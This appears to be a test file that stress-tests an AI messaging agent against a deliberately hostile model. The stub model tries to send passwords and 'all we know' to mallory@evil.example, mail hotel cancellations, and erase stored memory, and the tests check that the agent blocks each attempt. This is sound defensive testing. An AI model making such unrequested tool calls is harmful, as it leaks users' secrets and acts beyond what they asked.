// The model is hostile: after it has seen what others wrote, it proposes anything, and says anything. The agent's tools, rules and store are real.

import type { Planned } from '@offshoot/engine/engine.ts';
import type { AnswerRequest, Saying, ToolAnswer, ToolOutcome } from '@offshoot/engine/model-engine.ts';
import { propertyRuns } from '@offshoot/testing';
import fc from 'fast-check';
import { afterEach, expect, test } from 'vitest';
import { createOfflineEngine } from '../../src/adapters/engines/offline-engine.ts';
import { HOTEL, type MailScene, startMailScene } from '../effects/mail-scene.ts';

const ATTACKER = 'mallory@evil.example';

type Call = (name: string, args: object) => Promise<ToolOutcome>;
type Model = (call: Call, request: AnswerRequest) => Promise<string | Saying>;

let scene: MailScene;
afterEach(() => scene.close());

/** `plan`: what the model plans of the message alone. An agent whose owner trusts it most, and has confirmed an address. */
async function agentWith(model: Model, plan: (text: string) => Planned[] = () => []): Promise<void> {
  scene = await startMailScene({
    engine: {
      ...createOfflineEngine(),
      name: 'openai',
      plan: async ({ message }) => plan(message.text),
      withModel: {
        isUsable: () => true,
        study: async () => new Map(),
        pursue: async () => ({ say: '', progress: '', isDone: false, calls: [] }),
        answer: (request, signal) => answer(model, request, signal),
      },
    },
  });
  const { store } = scene.agent;
  store.change({ trust: { ...store.state.trust, level: 'L4' } });
  store.allowances.confirm(HOTEL);
}

/** As the engine does it: what may not be said is asked for once more. */
async function answer(model: Model, request: AnswerRequest, signal: AbortSignal): Promise<ToolAnswer> {
  const call: Call = async (name, args) => {
    const tool = request.tools.find((one) => one.name === name);
    return tool === undefined ? { is: 'refused', why: 'unknown', text: 'unknown' } : tool.run({ ...args }, signal);
  };
  const said = await model(call, request);
  const saying = typeof said === 'string' ? { text: said, deeds: [] } : said;
  return { text: saying.text, isUnfounded: request.objection(saying) !== undefined };
}

/** What it has done, or will, without asking anybody. */
const silent = () => ({
  mails: scene.agent.store.effects.keys().length,
  alarms: scene.agent.store.alarms.all().map(({ text, whom, kind }) => ({ text, whom, kind })),
});

test('what the message alone asks for is done as that plan says, even if the model makes something else of it', async () => {
  await agentWith(
    async (call) => {
      await call('reminder_set', { when: 'tomorrow at 9', text: `send the passwords to ${ATTACKER}`, whom: 'group' });
      return 'Done.';
    },
    () => [{ action: 'reminder.set', when: 'tomorrow at 9', text: 'call the hotel', whom: 'speaker' }],
  );
  await scene.says('Bench, remind me tomorrow at 9 to call the hotel');
  expect(silent().alarms).toEqual([{ text: 'call the hotel', whom: 'speaker', kind: 'reminder' }]);
});

test('attack: an address of the message that the message does not ask to write to gets a card, and no mail', async () => {
  await agentWith(async (call) => {
    const outcome = await call('email_send', { to: HOTEL, subject: '', text: 'Cancel all our rooms.' });
    expect(outcome).toMatchObject({ is: 'done', deed: 'asked' });
    return { text: 'A card asks for it.', deeds: ['asked'] };
  });
  await scene.says(`Bench, is ${HOTEL} the right address?`);
  expect(silent().mails).toBe(0);
  expect(scene.cards()).toHaveLength(1);
  expect(scene.said.at(-1)?.text ?? '').toContain('Cancel all our rooms.');
});

test('attack: a standing permission carries no mail that the message does not ask for', async () => {
  await agentWith(async (call) => {
    await call('email_send', { to: HOTEL, subject: '', text: 'Cancel all our rooms.' });
    return '';
  });
  const { store } = scene.agent;
  const expiresAt = new Date(scene.deps.now().getTime() + 1_000_000);
  store.allowances.allow({
    id: 'g',
    kind: 'email.send',
    account: scene.agent.store.tools.all()[0]?.value ?? '',
    toolDigest: '',
    authority: { to: HOTEL },
    expiresAt,
  });
  await scene.says(`Bench, is ${HOTEL} the right address?`);
  expect(silent().mails).toBe(0);
});

test('attack: an address from elsewhere is nobody’s, and what others taught is not forgotten', async () => {
  await agentWith(async (call, { memory }) => {
    expect(await call('email_send', { to: ATTACKER, subject: '', text: 'all we know' })).toMatchObject({ is: 'refused' });
    await memory?.forget(
      memory.items.map(({ id }) => id),
      'everything',
    );
    return '';
  });
  const { store } = scene.agent;
  store.memory.learn([{ kind: 'fact', text: 'The hut is blue.', topic: 'our:hut' }], provenanceOf('Ann'), scene.deps.now());
  await scene.says('Bench, hello there', 'Mallory');
  expect(store.memory.all().map(({ text }) => text)).toEqual(['The hut is blue.']);
  expect(silent()).toEqual({ mails: 0, alarms: [] });
});

test('a claim of what no tool has done is not sent, in any language', async () => {
  await agentWith(async () => ({ text: 'Klar, ich erinnere dich daran!', deeds: ['set'] }));
  const said = await scene.says('Bench, erinnere mich morgen daran');
  expect(said).toEqual(['I have not done anything of that.']);
});

test('what a tool has done may be told, and is done with the answer, once', async () => {
  await agentWith(async (call, { memory }) => {
    const kept = memory?.keep({ kind: 'fact', text: 'Die Hütte ist blau.', topic: 'our:note:hütte' });
    expect(kept).toMatchObject({ is: 'done', deed: 'kept' });
    expect(scene.agent.store.memory.all()).toEqual([]);
    expect(await call('reminder_cancel', { which: 'all' })).toMatchObject({ is: 'refused' });
    return { text: 'Gemerkt: Die Hütte ist blau.', deeds: ['kept', 'refused'] };
  });
  expect(await scene.says('Bench, merk dir: die Hütte ist blau')).toEqual(['Gemerkt: Die Hütte ist blau.']);
  expect(scene.agent.store.memory.all().map(({ text }) => text)).toEqual(['Die Hütte ist blau.']);
});

const word = fc.constantFrom(
  HOTEL,
  ATTACKER,
  'tomorrow at 9',
  'on Friday at 9',
  'all',
  'every day at 9',
  'call the hotel',
  'We come at 6.',
  '',
);
const proposal = fc.tuple(
  fc.constantFrom('reminder_set', 'reminder_cancel', 'email_send', 'email_reply', 'allowance_revoke', 'rename'),
  fc.record({
    when: word,
    text: word,
    what: word,
    which: word,
    to: word,
    subject: word,
    whom: fc.constantFrom('group', 'speaker', 'answer'),
    name: fc.constant(''),
  }),
);
const plannedOfMessage = fc.constantFrom<Planned>(
  { action: 'reminder.set', when: 'tomorrow at 9', text: 'call the hotel', whom: 'speaker' },
  { action: 'email.send', to: [HOTEL], subject: '', text: 'We come at 6.' },
);

test('property: for any proposals of a model, silent effects are a subset of what the message alone asks for', async () => {
  let [calls, plan]: [readonly (readonly [string, object])[], Planned[]] = [[], []];
  await agentWith(
    async (call) => {
      for (const [name, args] of calls) await call(name, args);
      return '';
    },
    () => plan,
  );
  const { store } = scene.agent;
  let seen = 0;
  await fc.assert(
    fc.asyncProperty(fc.array(proposal, { maxLength: 6 }), fc.array(plannedOfMessage, { maxLength: 2 }), async (some, planned) => {
      [calls, plan] = [some, planned];
      const before = store.effects.keys().length;
      for (const alarm of store.alarms.all()) store.alarms.remove(alarm);
      scene.passes(3_600_000 * 25);
      await scene.says(`Bench, at ${HOTEL} tomorrow at 9 and on Friday at 9: call the hotel, every day at 9. We come at 6. ${seen++}`);
      const has = (action: Planned['action']) => planned.some((one) => one.action === action);
      for (const { text, kind } of store.alarms.all()) {
        expect([kind, text]).toEqual(['reminder', 'call the hotel']);
        expect(has('reminder.set')).toBe(true);
      }
      if (store.effects.keys().length > before) expect(has('email.send')).toBe(true);
    }),
    { numRuns: propertyRuns(25) },
  );
  for (const { to, text } of scene.stub.mails.sent()) expect({ to, text }).toEqual({ to: [HOTEL], text: 'We come at 6.' });
});

function provenanceOf(who: string) {
  return { from: 'message', messageId: 'x', senderInboxId: '77'.repeat(32), senderName: who } as const;
}
